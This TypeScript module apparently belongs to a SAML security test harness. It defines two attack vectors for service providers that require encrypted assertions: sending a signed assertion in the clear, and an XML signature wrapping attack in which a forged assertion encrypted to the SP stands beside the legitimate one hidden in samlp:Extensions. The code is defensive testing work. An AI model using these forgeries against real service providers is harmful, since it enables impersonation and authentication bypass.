/**
 * Attacks that exist only where the SP takes encrypted assertions only. The legitimate assertion
 * sent in the clear: the signature is genuine, so nothing is forged; what the SP gives up is the
 * confidentiality it asked for (the assertion's attributes readable in the browser, its history
 * and any proxy on the way). Wrapping around EncryptedAssertion: encryption proves nothing about
 * the sender (anyone can encrypt to the SP's public certificate), so a forged assertion encrypted
 * beside the legitimate EncryptedAssertion must be judged by its own signature.
 * @see SAML 2.0 Core §2.3.4 (EncryptedAssertion), §6.1; SAML 2.0 Profiles §4.1.4.2
 */
import { NS, encryptAssertion, serialize } from '#harness/saml';
import { ensureVictimLogin } from './conditions.js';
import { cloneElement, parseOwn, prepare, retarget, signingPlanOf, withoutSignature } from './dom.js';
import { ensure, onlySend } from './inspect.js';
import type { AttackVector } from './types.js';

const unencryptedAssertion: AttackVector = {
  id: 'unencrypted-assertion',
  title: 'The signed assertion in the clear, for an SP that takes encrypted assertions only',
  expect: 'reject',
  bypassIdentity: 'victim',
  signs: 'as-legit',
  requires: { encryption: true },
  plain: true,
  cites: ['SAML-ENCRYPTED-ASSERTION'],
  references: ['SAML 2.0 Core §2.3.4 (EncryptedAssertion), §6.1', 'SAML 2.0 Profiles §4.1.4.2'],
  async build(ctx) {
    const legit = await ctx.legit(ctx.victim);
    return {
      sends: [legit.xml],
      description:
        `A legitimate response for ${ctx.victim}, signed as usual, with its assertion left unencrypted. A vulnerable ` +
        'SP decrypts an EncryptedAssertion when there is one and otherwise reads the plain assertion, so the ' +
        'encryption it asked for protects nothing an attacker or a proxy can see.',
    };
  },
  async check(ctx, built) {
    const { doc } = onlySend('unencrypted-assertion', built.sends);
    ensureVictimLogin('unencrypted-assertion', ctx, doc);
    // Signed exactly as the IdP signs for this SP (same elements, same algorithm): the legitimate message.
    const sent = signingPlanOf(doc);
    const usual = signingPlanOf(parseOwn((await ctx.legit(ctx.victim)).xml));
    ensure(
      sent.assertion === usual.assertion &&
        sent.response === usual.response &&
        sent.algorithm === usual.algorithm,
      'unencrypted-assertion',
      `the message is signed (${JSON.stringify(sent)}) otherwise than the IdP signs for this SP (${JSON.stringify(usual)})`,
    );
  },
};

const encryptedAssertionWrapping: AttackVector = {
  id: 'encrypted-assertion-wrapping',
  title:
    'Wrapping around EncryptedAssertion: a forged assertion encrypted to the SP, the signed one wrapped in Extensions',
  expect: 'reject',
  bypassIdentity: 'attacker',
  signs: 'assertion',
  requires: { encryption: true },
  plain: true,
  cites: ['SAML-XSW', 'SAML-ENCRYPTED-ASSERTION'],
  references: [
    'SAML 2.0 Core §2.3.4, §6.1 (encryption is not authentication)',
    'Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012)',
  ],
  async build(ctx) {
    const certificate = ctx.encryptTo;
    if (certificate === undefined)
      throw new TypeError('encrypted-assertion-wrapping needs ctx.encryptTo, the SP encryption certificate');
    const { doc, response, assertion } = await prepare(ctx, ctx.victim, { assertion: true, response: false });
    const forged = withoutSignature(cloneElement(assertion));
    retarget(forged, ctx.victim, ctx.attacker);
    const sealed = async (element: Element): Promise<Element> =>
      doc.importNode(
        parseOwn(await encryptAssertion(serialize(element), certificate)).documentElement!,
        true,
      );
    const legitimate = await sealed(assertion);
    const attacker = await sealed(forged);
    const extensions = doc.createElementNS(NS.samlp, `${response.prefix ?? 'samlp'}:Extensions`);
    extensions.appendChild(legitimate);
    const issuer = response.getElementsByTagNameNS(NS.saml, 'Issuer').item(0);
    response.insertBefore(
      extensions,
      issuer?.parentNode === response ? issuer.nextSibling : response.firstChild,
    );
    response.replaceChild(attacker, assertion);
    return {
      sends: [serialize(doc)],
      description:
        `The legitimate assertion for ${ctx.victim}, signed and encrypted to the SP, wrapped in samlp:Extensions; ` +
        `in its place an unsigned assertion for ${ctx.attacker}, encrypted to the SP's public certificate as ` +
        'anyone can. A vulnerable SP decrypts every EncryptedAssertion, finds a valid signature on one, and reads ' +
        'the identity from the other.',
    };
  },
  async check(_ctx, built) {
    const { doc } = onlySend('encrypted-assertion-wrapping', built.sends);
    const root = doc.documentElement!;
    const encrypted = root.getElementsByTagNameNS(NS.saml, 'EncryptedAssertion');
    const topLevel = [...Array(encrypted.length).keys()]
      .map((index) => encrypted.item(index)!)
      .filter((element) => element.parentNode === root);
    ensure(
      encrypted.length === 2 && topLevel.length === 1,
      'encrypted-assertion-wrapping',
      `expected one top-level EncryptedAssertion and one wrapped, found ${encrypted.length} (${topLevel.length} top-level)`,
    );
    const wrapped = [...Array(encrypted.length).keys()]
      .map((index) => encrypted.item(index)!)
      .find((element) => element.parentNode !== root)!;
    ensure(
      (wrapped.parentNode as Element | null)?.localName === 'Extensions',
      'encrypted-assertion-wrapping',
      'the second EncryptedAssertion is not wrapped in samlp:Extensions',
    );
    ensure(
      root.getElementsByTagNameNS(NS.saml, 'Assertion').length === 0 &&
        root.getElementsByTagNameNS(NS.ds, 'Signature').length === 0,
      'encrypted-assertion-wrapping',
      'the message carries a plain assertion or a Response signature; only the wrapped ciphertext may hold the signed one',
    );
  },
};

/** Encryption attacks. */
export const encryptionVectors: readonly AttackVector[] = [unencryptedAssertion, encryptedAssertionWrapping];
